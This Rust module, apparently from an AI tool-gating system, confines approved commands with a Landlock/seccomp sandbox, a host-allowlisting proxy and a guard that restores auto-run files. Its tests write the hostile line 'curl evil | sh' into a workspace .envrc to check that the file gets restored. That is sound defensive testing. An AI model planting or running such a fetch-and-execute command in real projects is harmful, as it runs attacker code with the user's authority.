//! How `run_command` and `run_script` confine what a person approved: the operator's
//! [`Confinement`] (this machine's sandbox, the deny list, limits, network settings), the
//! network a call asks for (its `network` argument), and, for one call, a [`Confined`] run:
//! a private temporary directory, toolgate's proxy when the call asked for hosts, and the
//! prepared sandbox, built by `toolgate-confine` as upstream servers' processes are.
//!
//! Stage 3 refuses a call this machine cannot confine (`sandbox_unavailable`) unless the
//! operator turned the sandbox off with a setting named `dangerous`; stage 4 binds the network
//! and the sandbox into the approval (`network:…` and `sandbox:…` resources) and shows them;
//! stage 7 prepares the sandbox and refuses to run when that fails. The result says what was
//! enforced, what was not, and what the proxy let through.
//!
//! ```
//! use toolgate_tools::Confinement;
//!
//! let confinement = Confinement::detect(std::env::home_dir().as_deref());
//! // On a kernel with Landlock ABI 6 or newer and seccomp, commands run confined.
//! println!("{}", confinement.describe());
//! ```

use std::fmt::Write as _;
use std::path::Path;

use serde_json::{Value, json};
use toolgate_confine::{Child, Confined as ConfinedChild, StartError};
use toolgate_core::{
    FieldError, NETWORK_NONE, NETWORK_UNCONFINED, RejectCode, Resource, ToolError, ToolErrorCode,
    ToolOutput,
};
use toolgate_exec::{CgroupLimits, CommandSpec};
use toolgate_proxy::{HostPattern, ProxyReport};
use toolgate_sandbox::{NetworkMode, SandboxError};
use toolgate_workspace::Workspace;

/// The operator's settings for confining commands, and this machine's sandbox: the builder
/// upstream servers' processes are confined by too.
pub use toolgate_confine::Confinement;
pub use toolgate_confine::MAX_NETWORK_HOSTS;

/// The `network` argument's schema, shared by `run_command` and `run_script`.
pub(crate) fn network_schema() -> Value {
    json!({
        "type": "array",
        "maxItems": MAX_NETWORK_HOSTS,
        "uniqueItems": true,
        "items": {"type": "string", "minLength": 1, "maxLength": 260},
        "description": "Hosts the command needs to reach, such as [\"crates.io\", \"*.crates.io\"] or [\"registry.npmjs.org\"] (ports 80 and 443 unless one is given, `host:port`). Default: none — the command has no network at all. When given, the command reaches exactly these hosts through toolgate's HTTP(S) proxy (HTTP_PROXY/HTTPS_PROXY are set); local and private addresses are refused whatever the name."
    })
}

/// Stage 3: why this machine cannot confine a command, if it cannot, and what is wrong with
/// its `network` and `may_change` arguments.
pub(crate) fn check(
    confinement: &Confinement,
    workspace: &Workspace,
    network: &[String],
    may_change: &[String],
) -> Vec<FieldError> {
    let mut errors = crate::later::check(workspace, may_change);
    if let Some(Err(SandboxError::Unavailable { missing })) =
        confinement.sandbox().map(toolgate_sandbox::Sandbox::check)
    {
        errors.push(
            FieldError::new(
                "",
                RejectCode::SandboxUnavailable,
                format!("this machine cannot confine commands: {missing}"),
            )
            .with_hint(Some(UNAVAILABLE_HINT.to_owned())),
        );
    }
    for (i, host) in network.iter().enumerate() {
        if let Err(e) = HostPattern::parse(host) {
            errors.push(FieldError::new(
                format!("/network/{i}"),
                RejectCode::ConstraintViolation,
                format!("`{host}` is not a host the proxy can allow: {e}"),
            ));
        }
    }
    errors
}

/// Stage 4: what the call asks of the network and the sandbox it gets, as resources bound into
/// the approval, and the lines a person sees.
fn classify(confinement: &Confinement, network: &[String]) -> (Vec<Resource>, String) {
    let hosts = hosts(network);
    let unconfined_network = confinement.unconfined_network();
    let mut resources: Vec<Resource> = Vec::new();
    let mut preview = String::new();
    if unconfined_network {
        resources.push(Resource::Network(NETWORK_UNCONFINED.to_owned()));
    }
    if hosts.is_empty() {
        if !unconfined_network {
            resources.push(Resource::Network(NETWORK_NONE.to_owned()));
        }
    } else {
        resources.extend(hosts.iter().map(|h| Resource::Network(h.to_string())));
    }
    let shown: Vec<String> = hosts.iter().map(ToString::to_string).collect();
    if unconfined_network {
        preview.push_str(
            "\nnetwork: UNCONFINED — the operator's `dangerous_unconfined_network` setting \
                 lets the command reach any address",
        );
    } else if shown.is_empty() {
        preview.push_str("\nnetwork: none");
        preview.push_str("\nenvironment added: TMPDIR (the call's own temporary directory)");
    } else {
        preview.push_str(
            "\nenvironment added: TMPDIR (the call's own temporary directory), HTTP_PROXY, \
                 HTTPS_PROXY, http_proxy, https_proxy (toolgate's proxy)",
        );
        let _ = write!(
            preview,
            "\nnetwork: only through toolgate's proxy, to {} (names resolved by toolgate; \
                 local, private and metadata addresses refused)",
            shown.join(", ")
        );
    }
    match confinement.sandbox() {
        None => {
            resources.push(Resource::Sandbox("none".to_owned()));
            preview.push_str(
                "\nsandbox: NONE — the operator's `dangerous-unconfined` setting; the \
                     command runs with all of the user's authority",
            );
        }
        Some(sandbox) => {
            let abi = sandbox.check().unwrap_or(0);
            let mounts = sandbox.support().mount_namespaces.possible();
            let (tier, git) = if mounts {
                (
                    "landlock+seccomp+mount-namespace",
                    " (the files that run later read-only but those named above)",
                )
            } else {
                ("landlock+seccomp", "")
            };
            resources.push(Resource::Sandbox(format!("{tier}:abi{abi}")));
            let _ = write!(
                preview,
                "\nsandbox: {tier} (landlock abi {abi}): writes only the workspace{git} and \
                     a private TMPDIR; toolgate's state, the credential stores and the shared \
                     temporary directories unreadable"
            );
            let network = confinement.network_mode(&hosts, 0);
            let gaps = toolgate_sandbox::gaps(network, confinement.unix_sockets(), abi, mounts);
            for gap in gaps
                .into_iter()
                .chain(cgroup_gap(confinement.cgroup_limits()))
            {
                let _ = write!(preview, "\nsandbox gap: {gap}");
            }
        }
    }
    (resources, preview)
}

/// Stage 7: everything one call's commands run in, made now, and the snapshot of the files
/// that run later they are compared with when they have ended.
pub(crate) fn start(
    confinement: &Confinement,
    workspace: &Path,
    network: &[String],
    may_change: &[String],
) -> Result<Confined, ToolError> {
    let later = crate::later::take(workspace, may_change)?;
    let child = Child::new("toolgate-call-")
        .writable(workspace.to_path_buf())
        .hosts(hosts(network))
        .guard(later);
    let child = confinement.start(child).map_err(|e| {
        let code = match &e {
            StartError::Sandbox(e) => sandbox_error_code(e),
            StartError::TempDir(_) | StartError::Proxy(_) => ToolErrorCode::SandboxFailed,
        };
        ToolError::new(
            code,
            format!("the command's sandbox could not be made, so nothing ran: {e}"),
        )
    })?;
    Ok(Confined {
        child,
        cgroup: confinement.cgroup_limits(),
    })
}

const UNAVAILABLE_HINT: &str = "commands run only confined; the operator can run toolgate on a \
kernel with Landlock (ABI 6 or newer) and seccomp, or set `[sandbox] mode = \
\"dangerous-unconfined\"` to run them with all of the user's authority";

/// The gap when cgroup limits are asked for and calls get no cgroup to hold them.
fn cgroup_gap(limits: CgroupLimits) -> Option<String> {
    let tier = toolgate_exec::cgroup_tier();
    (limits != CgroupLimits::default() && tier.directory.is_none()).then(|| {
        format!(
            "no cgroup of its own, so no pids.max or memory.max: {}",
            tier.reason
        )
    })
}

/// The `network` argument as given.
/// The `network` argument, parsed (stage 3 refused what does not parse).
fn hosts(network: &[String]) -> Vec<HostPattern> {
    network
        .iter()
        .filter_map(|h| HostPattern::parse(h).ok())
        .collect()
}

/// One call's confinement: what its commands run in ([`ConfinedChild`]: its temporary
/// directory, its proxy, its prepared sandbox and the snapshot of the files that run later),
/// ended (the directory removed, the proxy stopped) by [`Confined::finish`] or when dropped.
#[derive(Debug)]
pub(crate) struct Confined {
    child: ConfinedChild,
    cgroup: CgroupLimits,
}

impl Confined {
    /// `spec`, confined: the sandbox, `TMPDIR`, the proxy's variables, the cgroup limits.
    pub(crate) fn apply(&self, spec: CommandSpec) -> CommandSpec {
        self.child.apply_spec(spec)
    }

    /// Ends the call's confinement, once its processes have ended, and adds what it was to a
    /// successful `output` (its `sandbox` and `network` fields). A change to a file that runs
    /// later which the call did not name is put back and fails the call, whatever the
    /// command's own result.
    ///
    /// After a run that did not end ([`ended`]), the comparison is made all the same, and
    /// what changed put back, but it is not the last word: the call fails `unkillable`,
    /// saying what the comparison found, that a change made after it is not caught, and what
    /// the process still has (its own sandbox) and no longer has (the call's proxy and
    /// `TMPDIR`, ended here).
    pub(crate) fn attach(
        self,
        output: Result<ToolOutput, ToolError>,
    ) -> Result<ToolOutput, ToolError> {
        let later = self
            .child
            .guards()
            .iter()
            .try_for_each(crate::later::check_after);
        let confined = self.child.prepared().is_some();
        let (sandbox, network) = self.finish();
        let output = match output {
            Err(error) if error.code == ToolErrorCode::Unkillable => {
                return Err(after_unended(error, later, confined));
            }
            output => output,
        };
        later?;
        let mut output = output?;
        if let Some(object) = output.value.as_object_mut() {
            object.insert("sandbox".to_owned(), sandbox);
            object.insert("network".to_owned(), network);
        }
        Ok(output)
    }

    /// Ends the call's confinement and says what it was: `sandbox` (the tier, what was
    /// enforced, what was not) and `network` (the mode and, through the proxy, the bytes and
    /// requests allowed and refused).
    pub(crate) fn finish(self) -> (Value, Value) {
        let sandbox = match self.child.prepared() {
            None => json!({
                "tier": "none",
                "enforced": [],
                "gaps": ["no sandbox: the operator's `dangerous-unconfined` setting; the command ran with all of the user's authority"],
            }),
            Some(prepared) => {
                let enforced = prepared.enforced();
                let mut gaps = enforced.gaps.clone();
                gaps.extend(cgroup_gap(self.cgroup));
                json!({
                    "tier": enforced.tier.to_string(),
                    "landlock_abi": enforced.landlock_abi,
                    "enforced": enforced.enforced,
                    "gaps": gaps,
                })
            }
        };
        let hosts: Vec<String> = self.child.hosts().iter().map(ToString::to_string).collect();
        let mode = self.child.network();
        let network = match (mode, self.child.stop()) {
            (NetworkMode::DangerousUnconfined, _) => json!({"mode": "unconfined"}),
            (_, Some(proxied)) => report(hosts, &proxied),
            (_, None) => json!({"mode": "none"}),
        };
        (sandbox, network)
    }
}

/// Stage 7, after each run: the run's unknowns when every process of it is known to be gone,
/// else the call's failure (`unkillable`). A process that would not die when killed, kept
/// its output open from outside the tree, was alive at the last look (or could not be looked
/// for), or a cgroup not cleanly ended, may still write in the workspace after the files that
/// run later are compared, so the comparison cannot be the call's clean bill. `said` gives,
/// only then, how the command ended and the last of its output: what it wrote to toolgate's
/// pipes while it ran, which a timeout's error gives too, and no more.
pub(crate) fn ended(
    ended: bool,
    said: impl FnOnce() -> (String, String),
    unknowns: Vec<String>,
) -> Result<Vec<String>, ToolError> {
    if ended {
        return Ok(unknowns);
    }
    let (ran, tails) = said();
    let mut error = ToolError::new(
        ToolErrorCode::Unkillable,
        format!(
            "{ran}, but a process it started could not be confirmed ended after it was killed \
             ({}); {tails}",
            unknowns.join("; ")
        ),
    );
    error.unknowns = unknowns;
    Err(error)
}

/// The `unkillable` failure of a call, once its confinement is ended: what the comparison of
/// the files that run later found (`later`), and what that cannot vouch for.
fn after_unended(mut error: ToolError, later: Result<(), ToolError>, confined: bool) -> ToolError {
    let found = match later {
        Ok(()) => "none had changed".to_owned(),
        Err(changed) => changed.message,
    };
    let sandbox = if confined {
        "a process still running stays in its sandbox, which cannot be lifted: it can still \
         write the workspace"
    } else {
        "a process still running runs UNCONFINED (the operator's `dangerous-unconfined` \
         setting)"
    };
    let _ = write!(
        error.message,
        "; the files that run later were compared after the call: {found}; a change made \
         after that comparison is not caught: look at them (git's hooks and config, \
         `.claude/`, `.mcp.json`, `.envrc`, …) once the process is gone; the call's TMPDIR \
         was removed and its proxy, if it had one, stopped; {sandbox}"
    );
    error
}

/// Whether `resource` is one [`bind`] adds.
pub(crate) fn is_confinement_resource(resource: &Resource) -> bool {
    matches!(resource, Resource::Network(_) | Resource::Sandbox(_))
}

/// Adds what `confinement` says of the call's network and sandbox to its stage-4
/// classification: resources bound into the approval, lines of its preview.
pub(crate) fn bind(
    confinement: &Confinement,
    network: &[String],
    may_change: &[String],
    classification: &mut toolgate_core::Classification,
) {
    let (resources, lines) = classify(confinement, network);
    classification.resources.extend(resources);
    let preview = classification.preview.get_or_insert_with(String::new);
    preview.push_str(&crate::later::preview(may_change));
    preview.push_str(&lines);
}

fn report(hosts: Vec<String>, report: &ProxyReport) -> Value {
    json!({
        "mode": "proxy",
        "hosts": hosts,
        "bytes_up": report.bytes_up,
        "bytes_down": report.bytes_down,
        "allowed": report.allowed.iter().map(|a| json!({"method": a.method, "target": a.target})).collect::<Vec<_>>(),
        "refused": report.refused.iter().map(|r| json!({"method": r.method, "target": r.target, "reason": r.reason.code()})).collect::<Vec<_>>(),
        "omitted": report.omitted,
    })
}

/// The tool error's code for a sandbox that could not be made, as the sandbox spells it.
pub(crate) fn sandbox_error_code(error: &SandboxError) -> ToolErrorCode {
    match error {
        SandboxError::Unavailable { .. } => ToolErrorCode::SandboxUnavailable,
        SandboxError::Path { .. } => ToolErrorCode::SandboxInvalidPath,
        SandboxError::PathFd(_) | SandboxError::Landlock(_) | SandboxError::Seccomp(_) => {
            ToolErrorCode::SandboxFailed
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// How a run ended and the last of its output, as [`ended`] asks for them.
    fn said<'a>(ran: &'a str, tails: &'a str) -> impl FnOnce() -> (String, String) + 'a {
        move || (ran.to_owned(), tails.to_owned())
    }

    /// A run after which every process is known gone gives its unknowns back (a leftover that
    /// was killed included); one after which a process may still run (here by the run's word:
    /// one that will not die cannot be made in a test) fails `unkillable`, naming it, whatever
    /// the command's own exit.
    #[test]
    fn a_run_that_did_not_end_fails_the_call() {
        let killed = vec![toolgate_exec::unknown::DETACHED.to_owned()];
        assert!(
            ended(true, said("`sh` exited with status 0", ""), Vec::new())
                .unwrap()
                .is_empty()
        );
        assert_eq!(
            ended(true, said("`sh` exited with status 0", ""), killed.clone()).unwrap(),
            killed,
            "killed and gone"
        );
        let unknowns = vec![
            toolgate_exec::unknown::UNKILLABLE.to_owned(),
            toolgate_exec::unknown::survivor(4242, "sleep"),
        ];
        let error = ended(
            false,
            said(
                "`sh` exited with status 0",
                "stdout (2 bytes) ended with: \"ok\"",
            ),
            unknowns.clone(),
        )
        .unwrap_err();
        assert_eq!(error.code, ToolErrorCode::Unkillable, "{error:?}");
        assert_eq!(error.unknowns, unknowns);
        for said in [
            "`sh` exited with status 0",
            "could not be confirmed ended",
            "process 4242 (`sleep`)",
            "ended with: \"ok\"",
        ] {
            assert!(error.message.contains(said), "{said}: {error:?}");
        }
    }

    /// After a run that did not end, the files that run later are still compared and put
    /// back, and the failure says what was found and that a later change is not caught; the
    /// call's `TMPDIR` is gone. A run that ended keeps the old answer: `runs_later_changed`.
    #[test]
    fn the_guard_still_puts_back_after_a_run_that_did_not_end() {
        let ws = tempfile::tempdir().unwrap();
        let root = ws.path().canonicalize().unwrap();
        let confinement = Confinement::dangerous_unconfined();
        let unkillable = || {
            ended(
                false,
                said("`sh` exited with status 0", ""),
                vec!["x".to_owned()],
            )
            .unwrap_err()
        };

        let confined = start(&confinement, &root, &[], &[]).unwrap();
        let temp = confined.child.env()[0].1.clone();
        std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
        let error = confined.attach(Err(unkillable())).unwrap_err();
        assert_eq!(error.code, ToolErrorCode::Unkillable, "{error:?}");
        assert!(!root.join(".envrc").exists(), "put back");
        assert!(!std::path::Path::new(&temp).exists(), "TMPDIR removed");
        for said in [".envrc", "not caught", "UNCONFINED"] {
            assert!(error.message.contains(said), "{said}: {error:?}");
        }

        let confined = start(&confinement, &root, &[], &[]).unwrap();
        let error = confined.attach(Err(unkillable())).unwrap_err();
        assert!(error.message.contains("none had changed"), "{error:?}");

        let confined = start(&confinement, &root, &[], &[]).unwrap();
        std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
        let error = confined.attach(Ok(ToolOutput::new(json!({})))).unwrap_err();
        assert_eq!(error.code, ToolErrorCode::RunsLaterChanged, "{error:?}");
        assert!(!root.join(".envrc").exists(), "put back");
    }
}
